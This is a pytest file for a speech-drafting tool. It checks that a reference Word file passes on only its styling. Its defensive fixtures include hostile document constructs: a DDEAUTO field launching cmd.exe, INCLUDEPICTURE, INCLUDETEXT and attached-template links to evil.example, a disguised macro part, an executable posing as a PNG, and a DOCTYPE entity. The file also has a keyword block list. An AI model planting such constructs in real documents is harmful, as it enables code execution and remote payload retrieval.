# ruff: noqa: E501 - XML as it stands
"""`--reference` with what offices really have: the look is taken, the matter stays behind."""

from __future__ import annotations

import io
import re
import zipfile
from functools import cache
from pathlib import Path
from zlib import crc32

import docx
import pytest
from lxml import etree

from drafter.desk.draft import Draft
from drafter.desk.finish import Wanted
from drafter.desk.library import Library
from drafter.desk.reference import Frame, frame_file, framed
from drafter.desk.watch import drafted_anew
from drafter.formats.docx.frame.pictures import bare_picture
from drafter.problem import InputError
from tests.cases.references import (
    A4,
    BOLD,
    BY_HAND,
    DEFAULTS,
    INDENT,
    MATTER,
    NORMAL,
    PITCH,
    PNG,
    WORD,
    Made,
    R,
    W,
    complex_field,
    fonts,
    inside,
    packed,
    paragraph,
    relations,
    run,
    size,
    spoken,
    story,
    style,
    styled,
)
from tests.cases.running import drafter

BLUEPRINT = """\
drafter: 1
slots: {会议: {ask: 会议全称}, 署名: {ask: 谁讲}}
speech:
  title: 在{{ 会议 }}上的讲话
  byline: "{{ 署名 }}"
  date: 2026年2月27日
  salutation: 同志们：
  opening: [{id: frame, say: 今天开会研究“两河共治”——攻坚……的事，下面讲两点。}]
  emphases:
    - id: one
      heading: 抓好截污
      body:
        - {id: a, say: 截污是**头等**大事。}
        - id: inner
          heading: 管住源头
          run_in: true
          body: [{id: b, say: 源头不管住，后面全白忙。}]
        - {id: c, heading: 管住末端, run_in: true, body: [{id: d, say: 末端也不能放。}]}
    - {id: two, heading: 抓好清淤, body: [{id: e, say: 清淤要抢在汛前。}]}
  closing: [{id: f, say: 谢谢大家！}]
"""
IDS = {
    "title": "10",
    "byline": "2",
    "date": "3",
    "salutation": "a0",
    "heading1": "1",
    "heading2": "20",
    "body": "a1",
}


@cache
def draft() -> Draft:
    """A speech with a line of every role, quotes, a dash, dots and a strong word."""
    from drafter.desk.draft import composed
    from drafter.notation.blueprint import read_blueprint
    from drafter.notation.brief import read_brief
    from drafter.yamltext.parse import parse

    blueprint, _ = read_blueprint(parse(BLUEPRINT, "b.yaml"), "b")
    assert blueprint
    facts = parse("blueprint: b.yaml\n会议: 全市治水大会·Ⅱ\n署名: 市长 李明\n", "f.yaml")
    brief, _, problems = read_brief(facts, lambda name, place: (blueprint, ()))
    assert brief and not problems
    return composed(brief, blueprint)


def office(names: bool = True, base: str = "a") -> str:
    """Styles of an office's own names, with ids as WPS gives them."""
    called = ("公文标题", "署名行", "发文日期", "称谓", "公文一级标题", "公文二级标题", "公文正文")
    looks = [BY_HAND[role] for role in ("title", "byline", "date", "salutation", "heading1", "heading2", "body")]
    return NORMAL + "".join(
        style(id, name, inside(*look), base=base) for id, name, look in zip(IDS.values(), called, looks, strict=True)
    )


def sections() -> Made:
    """Three sections: a cover, the speech, an annex in landscape; the last takes its header over."""
    cover = f'<w:sectPr><w:headerReference w:type="default" r:id="h1"/>{A4}</w:sectPr>'
    speech = f'<w:sectPr><w:headerReference w:type="default" r:id="h2"/>{A4}<w:pgNumType w:start="5"/></w:sectPr>'
    body = paragraph(run("内部资料 请勿外传"), properties=cover)
    body += spoken(BY_HAND) + paragraph(properties=speech) + paragraph(run("险段清单"))
    return Made(
        body,
        A4.replace('w:w="11906" w:h="16838"', 'w:w="16838" w:h="11906" w:orient="landscape"'),
        related=(("h1", "header", "header1.xml"), ("h2", "header", "header2.xml")),
        parts={"word/header1.xml": story("header", "封面页眉"), "word/header2.xml": story("header", "正文页眉")},
        types={"word/header1.xml": "header+xml", "word/header2.xml": "header+xml"},
    )


def two_sections() -> Made:
    """A speech with header, footer and number, then a table in landscape under a header of its own."""
    speech = (
        '<w:sectPr><w:headerReference w:type="default" r:id="h1"/><w:footerReference w:type="default" r:id="f1"/>'
        f'{A4}<w:pgNumType w:start="3"/></w:sectPr>'
    )
    return Made(
        spoken(BY_HAND) + paragraph(properties=speech) + paragraph(run("附表一")),
        '<w:headerReference w:type="default" r:id="h2"/><w:pgSz w:w="16838" w:h="11906" w:orient="landscape"/>',
        related=(("h1", "header", "header1.xml"), ("f1", "footer", "footer1.xml"), ("h2", "header", "header2.xml")),
        parts={
            "word/header1.xml": story("header", "某市办公室文稿"),
            "word/footer1.xml": story("footer", "第", complex_field("PAGE", "1")),
            "word/header2.xml": story("header", "附表"),
        },
        types={"word/header1.xml": "header+xml", "word/header2.xml": "header+xml", "word/footer1.xml": "footer+xml"},
    )


def inherited() -> Made:
    """Two sections, the header only in the first; the speech stands in the last."""
    cover = f'<w:sectPr><w:headerReference w:type="default" r:id="h1"/>{A4}</w:sectPr>'
    made = headed(story("header", "青石市人民政府"))
    from msgspec.structs import replace

    return replace(made, body=paragraph(run("领导讲话"), properties=cover) + spoken(BY_HAND), section=A4)


def headed(header: str, related: str = "", parts: dict[str, str | bytes] | None = None) -> Made:
    """The speech by hand under a header."""
    return Made(
        spoken(BY_HAND),
        f'<w:headerReference w:type="default" r:id="h1"/>{A4}',
        related=(("h1", "header", "header1.xml"),),
        parts={
            "word/header1.xml": header,
            **({"word/_rels/header1.xml.rels": related} if related else {}),
            **(parts or {}),
        },
        types={"word/header1.xml": "header+xml"},
    )


PICTURE = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" distT="0" distB="0" '
    'distL="0" distR="0"><wp:extent cx="360000" cy="360000"/><wp:docPr id="1" name="p"/><a:graphic '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/>'
    '</pic:nvPicPr><pic:blipFill><a:blip r:{how}="p1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" '
    'y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)
SEAL = PNG + b"SEAL-OF-ANOTHER-MATTER"
THEME = (
    '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="t"><a:themeElements><a:clrScheme name="c">'
    + "".join(
        f'<a:{name}><a:srgbClr val="000000"/></a:{name}>'
        for name in (
            "dk1",
            "lt1",
            "dk2",
            "lt2",
            "accent1",
            "accent2",
            "accent3",
            "accent4",
            "accent5",
            "accent6",
            "hlink",
            "folHlink",
        )
    )
    + '</a:clrScheme><a:fontScheme name="f"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface="黑体"/><a:cs typeface=""/></a:majorFont>'
    '<a:minorFont><a:latin typeface="Times New Roman"/><a:ea typeface="仿宋"/><a:cs typeface=""/></a:minorFont></a:fontScheme>'
    '<a:fmtScheme name="f"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/>'
    '</a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln/><a:ln/><a:ln/></a:lnStyleLst>'
    "<a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle>"
    '<a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill>'
    '<a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme>'
    "</a:themeElements></a:theme>"
)
FULL_BODY = (
    spoken(BY_HAND)
    + f'<w:p>{PICTURE.format(how="embed")}<w:r><w:t>印章在此</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r>'
    '<w:r><w:commentReference w:id="0"/></w:r></w:p>'
    "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:p><w:r><w:t>表中旧事</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
)
LOADED = Made(
    FULL_BODY,
    related=(
        ("p1", "image", "media/seal.png"),
        ("n1", "footnotes", "footnotes.xml"),
        ("c1", "comments", "comments.xml"),
        ("g1", "glossaryDocument", "glossary/document.xml"),
        ("x1", "customXml", "../customXml/item7.xml"),
        ("l1", "hyperlink", "http://old.example/"),
        ("s1", "subDocument", "http://old.example/sub.docx"),
        ("o1", "oleObject", "http://old.example/ole"),
        ("fr", "frame", "http://old.example/frame"),
    ),
    parts={
        "word/media/seal.png": SEAL,
        "word/footnotes.xml": f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2"><w:p><w:r><w:t>旧脚注</w:t></w:r></w:p></w:footnote></w:footnotes>',
        "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="王五"><w:p><w:r><w:t>旧批注</w:t></w:r></w:p></w:comment></w:comments>',
        "word/glossary/document.xml": f'<w:glossaryDocument xmlns:w="{W}"/>',
        "customXml/item7.xml": "<secret>旧数据</secret>",
        "docProps/core.xml": '<c:coreProperties xmlns:c="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"><c:lastModifiedBy>王五</c:lastModifiedBy></c:coreProperties>',
    },
    types={
        "word/footnotes.xml": "footnotes+xml",
        "word/comments.xml": "comments+xml",
        "word/glossary/document.xml": "document.glossary+xml",
    },
)
MACROS = (("m1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "evil.bin"),)
DRAWN = (
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml"'
)
NUMBER = f"<w:p>{complex_field('PAGE', '1')}</w:p>"
BOX = (
    f'<w:hdr xmlns:w="{W}" xmlns:r="{R}" {DRAWN}><w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:anchor '
    'distT="0" distB="0" distL="0" distR="0" simplePos="0" relativeHeight="1" behindDoc="0" locked="0" layoutInCell="1" '
    'allowOverlap="1"><wp:simplePos x="0" y="0"/><wp:positionH relativeFrom="margin"><wp:align>center</wp:align></wp:positionH>'
    '<wp:positionV relativeFrom="paragraph"><wp:posOffset>0</wp:posOffset></wp:positionV><wp:extent cx="1828800" cy="1828800"/>'
    '<wp:wrapNone/><wp:docPr id="1" name="t"/><a:graphic><a:graphicData '
    'uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:xfrm><a:off '
    'x="0" y="0"/><a:ext cx="1828800" cy="1828800"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr><wps:txbx>'
    f"<w:txbxContent>{NUMBER}</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing>"
    '</mc:Choice><mc:Fallback><w:pict><v:shape type="#x" style="width:144pt" href="http://evil.example/"><v:textbox><w:txbxContent>'
    f"{NUMBER}</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p></w:hdr>"
)
"""The page's number as WPS puts it."""
MIXED = (
    f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:sdt><w:sdtPr><w:id w:val="1"/></w:sdtPr><w:sdtContent>{NUMBER}</w:sdtContent></w:sdt><w:p>'
    '<w:ins w:id="1" w:author="王五"><w:r><w:t>青石市</w:t></w:r></w:ins><w:del w:id="2" w:author="王五"><w:r><w:delText>旧市</w:delText>'
    "</w:r></w:del></w:p><w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:p><w:r><w:t>栏头</w:t></w:r></w:p></w:tc></w:tr>"
    "</w:tbl><w:p/></w:hdr>"
)
CALLING = headed(
    f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p>'
    + complex_field("DDEAUTO c:\\\\cmd.exe calc", "点名")
    + complex_field('INCLUDEPICTURE "http://evil.example/x.png"', "图样")
    + PICTURE.format(how="link")
    + '<w:fldSimple w:instr=" INCLUDETEXT http://evil.example/t "><w:r><w:t>引文</w:t></w:r></w:fldSimple>'
    '<w:hyperlink r:id="k1"><w:r><w:t>网站</w:t></w:r></w:hyperlink>'
    '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="k1"/></w:object>'
    + complex_field("PAGE \\* MERGEFORMAT", "1")
    + "</w:p></w:hdr>",
    relations((("p1", "image", "http://evil.example/p.png"), ("k1", "hyperlink", "http://evil.example/"))),
)
GRID = A4 + '<w:docGrid w:type="linesAndChars" w:linePitch="579" w:charSpace="-849"/>'
REFERENCES: dict[str, Made] = {
    "by hand, without any style": Made(spoken(BY_HAND)),
    "face and size in the document defaults": Made(
        spoken(DEFAULTS),
        styles=f"<w:docDefaults><w:rPrDefault><w:rPr>{fonts('仿宋')}{size(16)}</w:rPr></w:rPrDefault></w:docDefaults>"
        + style("a", "Normal", usual=True),
    ),
    "bold only": Made(spoken(BOLD)),
    "blanks typed before paragraphs": Made(spoken(BY_HAND | {"body": (PITCH, BY_HAND["body"][1])}, before="　　")),
    "styles of the office's own names": Made(spoken(styled(IDS)), styles=office()),
    "own styles, no text": Made(paragraph(), styles=office(), main="template.main+xml"),
    "own styles, overridden by hand": Made(
        spoken({role: (f'<w:pStyle w:val="{IDS[role]}"/>{BY_HAND[role][0]}', BY_HAND[role][1]) for role in BY_HAND}),
        styles=NORMAL + "".join(style(id, f"样式{n}", base="a") for n, id in enumerate(IDS.values())),
    ),
    "Word's headings, made black by hand": Made(
        spoken(
            BY_HAND
            | {"heading1": ('<w:pStyle w:val="1"/>' + INDENT, fonts("黑体") + '<w:color w:val="000000"/>' + size(16))}
        ),
        styles=NORMAL
        + style(
            "1",
            "heading 1",
            inside('<w:outlineLvl w:val="0"/>', '<w:b/><w:color w:val="365F91"/>' + size(14)),
            base="a",
        ),
    ),
    "numbered headings": Made(
        spoken(styled(IDS)),
        styles=office().replace(
            'w:styleId="1"><w:name w:val="公文一级标题"/><w:basedOn w:val="a"/><w:pPr>',
            'w:styleId="1"><w:name w:val="公文一级标题"/><w:basedOn w:val="a"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr>',
        ),
        related=(("nu", "numbering", "numbering.xml"),),
        parts={
            "word/numbering.xml": f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
            '<w:numFmt w:val="chineseCountingThousand"/><w:lvlText w:val="%1、"/></w:lvl></w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
        },
        types={"word/numbering.xml": "numbering+xml"},
    ),
    "two sections": two_sections(),
    "three sections": sections(),
    "a header that the last section takes over": inherited(),
    "pictures, notes and comments of its text": LOADED,
    "a picture in the header": headed(
        f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p>{PICTURE.format(how="embed")}<w:r><w:t>青石市</w:t></w:r></w:p></w:hdr>',
        relations((("p1", "image", "media/logo.png"),)),
        {"word/media/logo.png": PNG},
    ),
    "a picture in the header that is none": headed(
        f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p>{PICTURE.format(how="embed")}<w:r><w:t>青石市</w:t></w:r></w:p></w:hdr>',
        relations((("p1", "image", "media/logo.png"),)),
        {"word/media/logo.png": b"MZ\x90EVIL-PROGRAM"},
    ),
    "fields that call home": CALLING,
    "a header with the old title": headed(
        f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p>{complex_field("STYLEREF 公文标题", MATTER[0][1])}{complex_field("STYLEREF 无此样式", MATTER[5][1])}</w:p></w:hdr>'
    ),
    "an attached template": Made(
        spoken(BY_HAND),
        settings='<w:attachedTemplate r:id="t1"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="t2"/></w:mailMerge>'
        '<w:docVars><w:docVar w:name="x" w:val="旧变量"/></w:docVars>',
        parts={
            "word/_rels/settings.xml.rels": relations(
                (
                    ("t1", "attachedTemplate", "http://evil.example/t.dotm"),
                    ("t2", "mailMergeSource", "http://evil.example/db"),
                )
            )
        },
    ),
    "macros by another name": Made(
        spoken(BY_HAND),
        related=MACROS,
        parts={"word/evil.bin": b"\xd0\xcf\x11\xe0MACRO-BYTES"},
        types={"word/evil.bin": "application/vnd.ms-office.vbaProject"},
        main="application/vnd.ms-word.document.macroEnabled.main+xml",
    ),
    "a template": Made(spoken(BY_HAND), main="template.main+xml"),
    "characters on a grid": Made(
        spoken(BY_HAND), GRID, styles=style("a", "Normal", inside("", fonts("仿宋_GB2312") + size(16)), usual=True)
    ),
    "a grid for other letters": Made(spoken(BY_HAND), GRID.replace("-849", "1000")),
    "faces of a theme": Made(
        spoken(DEFAULTS),
        styles='<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:eastAsiaTheme="minorEastAsia" w:hAnsiTheme="minorHAnsi"/>'
        + size(16)
        + "</w:rPr></w:rPrDefault></w:docDefaults>"
        + style("a", "Normal", usual=True),
        related=(("th", "theme", "theme/theme1.xml"),),
        parts={"word/theme/theme1.xml": THEME},
        types={"word/theme/theme1.xml": "application/vnd.openxmlformats-officedocument.theme+xml"},
    ),
    "a body in a heading's style": Made(
        spoken(BY_HAND | {"body": ('<w:pStyle w:val="1"/>' + PITCH + INDENT, BY_HAND["body"][1])}),
        styles=NORMAL + style("1", "heading 1", inside('<w:outlineLvl w:val="0"/>', size(22)), base="a"),
    ),
    "a text box with the page's number": headed(BOX),
    "a header in tables, controls and tracked changes": headed(MIXED),
    "nothing but text": Made(spoken(dict.fromkeys(BY_HAND, ("", "")))),
}


TAKEN = dict.fromkeys(BY_HAND, "learnt") | {"heading3": "standard", "heading4": "standard"}
NAMED = dict.fromkeys(BY_HAND, "style") | {"heading3": "standard", "heading4": "standard"}
SOURCES = {
    "bold only": TAKEN | dict.fromkeys(("byline", "date", "salutation"), "standard"),
    "styles of the office's own names": NAMED,
    "own styles, no text": NAMED,
    "numbered headings": NAMED,
    "nothing but text": dict.fromkeys(TAKEN, "standard"),
}
"""Where the look of each role comes from; where nothing is said, all that the speech has is learnt."""
HOSTILE = (
    "example", "王五", "旧", "印章", "表中", "SEAL", "EVIL", "MACRO", "内部资料", "领导讲话", "附表", "险段清单", "封面",
    "External", "attachedTemplate", "mailMerge", "DDE", "INCLUDE", "OLEObject", "hyperlink", "docVar",
)  # fmt: skip
"""What stands in some reference and may be in no draft."""


@cache
def frame(name: str) -> Frame:
    return framed(packed(REFERENCES[name]), "r.docx")


@cache
def drafted(name: str, final: bool = True) -> bytes:
    return draft().write(reference=frame(name), final=final)


def parts(document: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(document)) as package:
        return {one: package.read(one) for one in package.namelist()}


def xml(document: bytes, name: str = "word/document.xml") -> str:
    return parts(document)[name].decode()


def look(document: bytes, role: str, words: str) -> dict[str, str]:
    """How a paragraph of a draft comes out: of its style and what it is based on."""
    opened = docx.Document(io.BytesIO(document))
    shown = next(one for one in opened.paragraphs if one.text.startswith(words))
    found: dict[str, str] = {"style": shown.style.style_id if shown.style else ""}
    style = shown.style
    chain = []
    while style is not None:
        chain.append(style.element)
        style = style.base_style  # type: ignore[attr-defined]
    for element in [opened.styles.element.find(f"{{{W}}}docDefaults"), *reversed(chain), shown._p.pPr]:
        for one in element.iter() if element is not None else ():
            tag = etree.QName(one).localname
            if tag in ("rFonts", "sz", "jc", "ind", "spacing", "color", "b", "outlineLvl", "numId"):
                found |= {f"{tag}.{etree.QName(key).localname}": text for key, text in one.attrib.items()} or {tag: "1"}
    return found


@pytest.mark.parametrize("name", REFERENCES)
def test_the_look_comes_from_where_it_is_told(name: str) -> None:
    told = {one.role: one.how for one in frame(name).sources}
    assert told == SOURCES.get(name, TAKEN)


@pytest.mark.parametrize("name", REFERENCES)
def test_nothing_of_the_reference_s_matter_is_in_the_final_document(name: str) -> None:
    document = drafted(name)
    everything = {one: part.decode("utf-8", "replace") for one, part in parts(document).items()}
    for one, text in everything.items():
        for words in [*(words for _, words in MATTER if words not in ("同志们：",)), *HOSTILE]:
            assert words not in text, (one, words)
    known = r"\[Content_Types\]\.xml|.*\.rels|docProps/core\.xml|word/(document|styles|settings|numbering|theme/theme1|header\d|footer\d)\.xml"
    assert [one for one in everything if not re.fullmatch(known + r"|word/media/image1\.png", one)] == []
    named = re.findall(r'Target="([^"]+)"', "".join(text for one, text in everything.items() if one.endswith(".rels")))
    assert all(any(one.endswith(target) for one in everything) for target in named)


@pytest.mark.parametrize("name", REFERENCES)
def test_no_paragraph_is_a_block_of_the_default_style_nor_blue(name: str) -> None:
    opened = docx.Document(io.BytesIO(drafted(name)))
    usual = {one.style_id for one in opened.styles if one.element.get(f"{{{W}}}default")}
    every = {one.style.style_id for one in opened.paragraphs if one.style}
    assert not every & usual
    assert every <= {one.style_id for one in opened.styles}
    assert len(every) == 7
    for words in ("在全市", "一、抓好", "（一）管住", "今天开会"):
        assert look(drafted(name), "", words).get("color.val", "000000") in ("000000", "auto"), words


@pytest.mark.parametrize("name", REFERENCES)
def test_headings_are_real_and_stop_where_their_words_stop(name: str) -> None:
    document = drafted(name)
    assert [look(document, "", words)["outlineLvl.val"] for words in ("一、抓好", "（一）管住")] == ["0", "1"]
    assert look(document, "", "今天开会").get("outlineLvl.val", "9") == "9"
    opened = docx.Document(io.BytesIO(document))
    run_in = next(one for one in opened.paragraphs if one.text.startswith("（一）"))
    assert [one.text for one in run_in.runs] == ["（一）管住源头。", "源头不管住，后面全白忙。"]
    assert run_in.runs[1].style.name.startswith("Body Text Char")
    assert all(
        'w:hint="eastAsia"' in one._r.xml for paragraph in opened.paragraphs for one in paragraph.runs if one.text
    )


def test_what_is_set_by_hand_is_set_so_by_styles() -> None:
    document = drafted("by hand, without any style")
    title, first, second, body = (
        look(document, "", words) for words in ("在全市", "一、抓好", "（一）管住", "今天开会")
    )
    assert (title["rFonts.eastAsia"], title["sz.val"], title["jc.val"]) == ("方正小标宋简体", "44", "center")
    assert (first["rFonts.eastAsia"], first["sz.val"], first["ind.firstLineChars"]) == ("黑体", "32", "200")
    assert (second["rFonts.eastAsia"], second["b"]) == ("楷体_GB2312", "1")
    assert (body["rFonts.eastAsia"], body["sz.val"], body["spacing.line"]) == ("仿宋_GB2312", "32", "560")
    after = xml(document, "word/styles.xml").partition('w:styleId="BodyTextChar"')[2]
    assert 'w:eastAsia="仿宋_GB2312"' in after and 'w:val="32"' in after


def test_a_role_without_a_paragraph_takes_the_standard_look_in_the_face_of_the_body() -> None:
    styles = xml(drafted("by hand, without any style"), "word/styles.xml")
    third = re.search(r'w:styleId="Heading3">.*?</w:style>', styles)
    assert third and 'w:eastAsia="仿宋_GB2312"' in third[0] and 'w:outlineLvl w:val="2"' in third[0]
    assert 'w:line="560"' in third[0]


def test_blanks_that_were_typed_are_an_indent() -> None:
    assert look(drafted("blanks typed before paragraphs"), "", "今天开会")["ind.firstLineChars"] == "200"


def test_names_of_the_office_are_kept() -> None:
    opened = docx.Document(io.BytesIO(drafted("styles of the office's own names")))
    assert [one.style.name for one in opened.paragraphs if one.style][:7] == [
        "公文标题", "署名行", "发文日期", "称谓", "公文正文", "公文一级标题", "公文正文",
    ]  # fmt: skip


def test_numbers_are_not_given_twice() -> None:
    assert (
        '<w:pStyle w:val="1"/><w:keepNext/><w:numPr><w:ilvl w:val="0"/><w:numId w:val="0"/></w:numPr><w:ind w:firstLineChars="200"'
        in xml(drafted("numbered headings"))
    )


@pytest.mark.parametrize(
    ("name", "words", "paper"),
    [
        ("two sections", "某市办公室文稿", "11906"),
        ("three sections", "正文页眉", "11906"),
        ("a header that the last section takes over", "青石市人民政府", "11906"),
    ],
)
def test_the_section_of_the_body_is_taken_with_what_it_takes_over(name: str, words: str, paper: str) -> None:
    document = drafted(name)
    section = docx.Document(io.BytesIO(document)).sections[0]
    assert section.header.paragraphs[0].text == words
    assert f'w:w="{paper}"' in xml(document)
    start = {"two sections": "3", "three sections": "5"}.get(name)
    assert start is None or f'<w:pgNumType w:start="{start}"/>' in xml(document)
    told = [str(one) for one in frame(name).problems if one.rule == "reference-section"]
    assert len(told) == (name != "a header that the last section takes over")


def test_a_page_number_stays_a_field_and_what_calls_home_becomes_text() -> None:
    header = xml(drafted("fields that call home"), "word/header1.xml")
    assert re.findall(r"<w:instrText[^>]*>([^<]*)", header) == [r" PAGE \* MERGEFORMAT "]
    assert "".join(re.findall(r"<w:t[ >][^<]*", header)).count("<w:t>") == 5
    assert "drawing" not in header and "r:" not in header.replace("xmlns:r", "").replace("w:r", "")
    assert "PAGE" in xml(drafted("two sections"), "word/footer2.xml")


def test_a_picture_travels_without_what_its_file_tells() -> None:
    text = b"tEXtComment\0SECRET"
    chunk = (len(text) - 4).to_bytes(4, "big") + text + crc32(text).to_bytes(4, "big")
    assert bare_picture(PNG[:33] + chunk + PNG[33:] + b"SECRET", "png") == PNG
    assert bare_picture(PNG[:-1], "png") == b""
    shown = b"\xff\xdb\x00\x03\x01\xff\xda\x00\x02\x12\xff\x00\x34\xff\xd0\x56\xff\xd9"
    told = b"\xff\xe1\x00\x08SECRET\xff\xfe\x00\x08SECRET"
    assert bare_picture(b"\xff\xd8" + told + shown + b"SECRET", "jpeg") == b"\xff\xd8" + shown


def test_hidden_words_and_names_of_pictures_stay_behind() -> None:
    picture = (
        PICTURE.format(how="embed")
        .replace("<pic:cNvPr ", '<pic:cNvPr descr="SECRET" ')
        .replace("<wp:docPr ", '<wp:docPr title="SECRET" ')
    )
    hidden = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>SECRET</w:t></w:r>"
    part = f'<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p>{picture}{hidden}<w:r><w:t>青石市</w:t></w:r></w:p></w:hdr>'
    made = headed(part, relations((("p1", "image", "media/logo.png"),)), {"word/media/logo.png": PNG})
    kept = [
        data
        for name, data in parts(draft().write(final=True, reference=packed(made))).items()
        if "header" in name and name.endswith(".xml")
    ]
    assert len(kept) == 1 and b"SECRET" not in kept[0] and "青石市".encode() in kept[0] and b"<pic:pic" in kept[0]


def test_only_a_picture_travels_with_a_header() -> None:
    assert parts(drafted("a picture in the header"))["word/media/image1.png"] == PNG
    assert "word/media/image1.png" not in parts(drafted("a picture in the header that is none"))


def test_a_header_that_shows_the_title_shows_the_draft_s() -> None:
    from msgspec.structs import replace

    made = replace(REFERENCES["a header with the old title"], body=spoken(styled(IDS)), styles=office())
    document = draft().write(reference=packed(made), final=True)
    assert "在全市治水大会·Ⅱ上的讲话" in xml(document, "word/header1.xml")
    assert MATTER[0][1] not in xml(document, "word/header1.xml")


def test_characters_are_not_spread_over_a_grid() -> None:
    for name, tracked in (("characters on a grid", True), ("a grid for other letters", False)):
        document = drafted(name)
        assert '<w:docGrid w:type="lines" w:linePitch="579"/>' in xml(document)
        assert ('<w:spacing w:val="-5"/>' in xml(document, "word/styles.xml")) is tracked


def test_a_draft_is_marked_and_a_final_document_is_not() -> None:
    name = "styles of the office's own names"
    assert drafted(name, False) == draft().write(reference=packed(REFERENCES[name]))
    assert "_drafter_1" in xml(drafted(name, False)) and "customXml/item1.xml" in parts(drafted(name, False))
    assert "_drafter_" not in xml(drafted(name))


def test_styles_may_be_named_for_roles() -> None:
    odd = office().replace("公文正文", "甲式").replace("公文一级标题", "乙式")
    data = packed(Made(paragraph(), styles=odd))
    named = framed(data, "r.docx", styles={"甲式": "body", "乙式": "一级标题"})
    assert {one.role: one.style for one in named.sources if one.how == "named"} == {"heading1": "乙式", "body": "甲式"}
    with pytest.raises(InputError) as stopped:
        framed(data, "r.docx", styles={"甲试": "body", "乙式": "headline1"})
    assert [str(one) for one in stopped.value.problems] == [
        "r.docx:1:1: error: r.docx has no paragraph style 甲试; did you mean 甲式? [no-such-style]",
        "r.docx:1:1: error: headline1 is no role of a line; did you mean heading1? [unknown-role]",
    ]


UTF16 = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]>' + f'<w:styles xmlns:w="{W}"/>').encode(
    "utf-16"
)


@pytest.mark.parametrize("name", ["word/styles.xml", "word/settings.xml", "word/odd.dat"])
def test_a_doctype_is_refused_whatever_its_part_is_called(name: str) -> None:
    related = (("h9", "numbering", "odd.dat"),)
    made = Made(
        spoken(BY_HAND),
        related=related,
        types={"word/odd.dat": f"{WORD}.numbering+xml"},
        parts={"word/odd.dat": "<a/>"},
    )
    with pytest.raises(InputError, match="it holds a DOCTYPE"):
        framed(packed(made, {name: UTF16}), "r.docx")


@pytest.mark.parametrize("headed", [False, True], ids=["text only", "with headings"])
def test_a_file_of_python_docx_gives_no_blue_headings(headed: bool) -> None:
    template = docx.Document()
    template.add_paragraph("旧稿的正文")
    for words, level in (("在旧会上的讲话", 0), ("一、旧的一条", 1), ("二、旧的二条", 1)) if headed else ():
        template.add_heading(words, level)
        template.add_paragraph("旧稿的一段话，要照此办理。")
    buffer = io.BytesIO()
    template.save(buffer)
    document = draft().write(reference=buffer.getvalue(), final=True)
    title, first = look(document, "", "在全市"), look(document, "", "一、抓好")
    assert (title["style"], title["rFonts.eastAsia"], title["sz.val"]) == ("Title", "方正小标宋简体", "44")
    assert (first["style"], first["rFonts.eastAsia"]) == ("Heading1", "黑体")
    assert "color.val" not in title and "color.val" not in first
    assert not any("旧".encode() in part for part in parts(document).values())


